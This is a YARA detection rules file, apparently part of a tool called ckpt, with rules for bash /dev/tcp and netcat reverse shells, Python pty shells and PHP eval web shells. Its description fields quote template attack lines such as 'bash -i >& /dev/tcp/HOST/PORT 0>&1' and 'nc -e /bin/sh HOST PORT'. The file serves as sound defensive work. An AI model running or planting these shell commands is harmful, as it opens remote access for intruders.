/*
 * shells.yar - interactive shells handed to a remote peer and PHP web
 * shells, as their command lines and code sit in memory. Shipped with ckpt;
 * see rules/README.md.
 */

rule reverse_shell_dev_tcp
{
    meta:
        description = "shell redirected to bash's /dev/tcp or /dev/udp (bash -i >& /dev/tcp/HOST/PORT 0>&1)"
        author = "ckpt"
        reference = "https://www.gnu.org/software/bash/manual/html_node/Redirections.html"
        severity = "critical"
    strings:
        $dev = /\/dev\/(tcp|udp)\/[A-Za-z0-9.\-:]{1,253}\/[0-9]{1,5}/
        $interactive = /(ba|z|k)?sh -i/
    condition:
        for any i in (1..#dev) : (
            $interactive in (@dev[i] - 64 .. @dev[i])
        )
}

rule reverse_shell_netcat_exec
{
    meta:
        description = "netcat or ncat executing a shell for its peer (nc -e /bin/sh HOST PORT)"
        author = "ckpt"
        reference = "https://nmap.org/ncat/guide/ncat-exec.html"
        severity = "critical"
    strings:
        $e_sh = /(nc|ncat|netcat)( -[A-Za-z]{1,8}){0,4} -(e|c) ?\/bin\/(ba|z|da|k)?sh/
        $exec = /ncat [^\r\n\x00]{0,64}--(exec|sh-exec) [^\r\n\x00]{0,16}\/bin\/(ba|z|da|k)?sh/
    condition:
        any of them
}

rule reverse_shell_python_pty
{
    meta:
        description = "python one-liner connecting a socket and spawning a pty shell"
        author = "ckpt"
        reference = "https://docs.python.org/3/library/pty.html#pty.spawn"
        severity = "critical"
    strings:
        $spawn = /pty\.spawn\( ?["'][^"']{0,32}sh["']/
        $connect = ".connect((" ascii
        $dup2 = "os.dup2(" ascii
    condition:
        for any i in (1..#spawn) : (
            $connect in (@spawn[i] - 512 .. @spawn[i]) or
            $dup2 in (@spawn[i] - 512 .. @spawn[i])
        )
}

rule php_webshell_eval_request
{
    meta:
        description = "PHP web shell evaluating decoded request data (eval(base64_decode($_POST[...])) and kin)"
        author = "ckpt"
        reference = "https://www.php.net/manual/en/function.eval.php"
        severity = "critical"
    strings:
        $decode = /(eval|assert) ?\( ?(base64_decode|gzinflate|gzuncompress|str_rot13|hex2bin) ?\( ?\$_(POST|GET|REQUEST|COOKIE|SERVER)/ nocase
        $direct = /(eval|assert|system|passthru|shell_exec) ?\( ?\$_(POST|GET|REQUEST|COOKIE)\[/ nocase
    condition:
        any of them
}
